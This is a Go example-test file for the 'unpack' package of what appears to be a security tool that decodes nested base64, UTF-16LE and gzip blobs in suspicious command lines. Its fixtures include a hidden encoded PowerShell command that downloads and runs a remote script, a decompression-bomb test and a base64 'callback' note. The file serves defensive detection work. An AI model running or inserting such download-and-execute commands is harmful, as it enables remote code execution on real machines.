package unpack_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"errors"
	"fmt"

	"github.com/hunchsec/hunch/unpack"
)

func ExampleUnpack() {
	// powershell -enc with "iwr http://198.51.100.7/a.ps1 | iex" in UTF-16LE.
	cmd := "powershell.exe -NoP -W Hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA3AC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA=="
	r := unpack.Unpack(cmd)
	for _, b := range r.Blobs {
		fmt.Printf("%s %s depth=%d: %s\n", b.Encoding(), b.Kind, b.Depth, b.Text)
	}
	fmt.Println(r.FullDecoded)
	// Output:
	// base64>utf16le text depth=1: iwr http://198.51.100.7/a.ps1 | iex
	// powershell.exe -NoP -W Hidden -enc iwr http://198.51.100.7/a.ps1 | iex
}

func ExampleUnpacker_Unpack() {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(make([]byte, 1<<20)) // 1 MiB of zeros: about 1000 times smaller compressed
	// The stream may give 50 times its size, but at least 64 KiB: it stops at 65536 bytes.
	zw.Close()
	bomb := base64.StdEncoding.EncodeToString(buf.Bytes())
	note := base64.StdEncoding.EncodeToString([]byte("callback to 203.0.113.9:443"))

	u, err := unpack.New(unpack.Options{MaxRatio: 50})
	if err != nil {
		panic(err)
	}
	r := u.Unpack("payload=" + bomb + " note=" + note)
	for _, b := range r.Blobs {
		fmt.Printf("%s %s size=%d ratio-limited=%t %q\n", b.Encoding(), b.Kind, b.Size, errors.Is(b.Err, unpack.ErrRatio), b.Text)
	}
	// Output:
	// base64>gzip binary size=65536 ratio-limited=true ""
	// base64 text size=27 ratio-limited=false "callback to 203.0.113.9:443"
}

func ExampleBlob_Encoding() {
	r := unpack.Unpack(`$d=[System.Convert]::FromBase64String("SDRzSUFBQUFBQUFDLzh0SXpjbkpWeWpQTDhwSjBWSElTeTB1U1UxUnlNeFRTRW9zVGpVekFRQ0tCWGJySFFBQUFBPT0=")`)
	for _, b := range r.Blobs {
		fmt.Println(b.Depth, b.Encoding(), b.Kind, b.Text)
	}
	// Output:
	// 1 base64 text H4sIAAAAAAAC/8tIzcnJVyjPL8pJ0VHISy0uSU1RyMxTSEosTjUzAQCKBXbrHQAAAA==
	// 2 base64>gzip text hello world, nested in base64
}
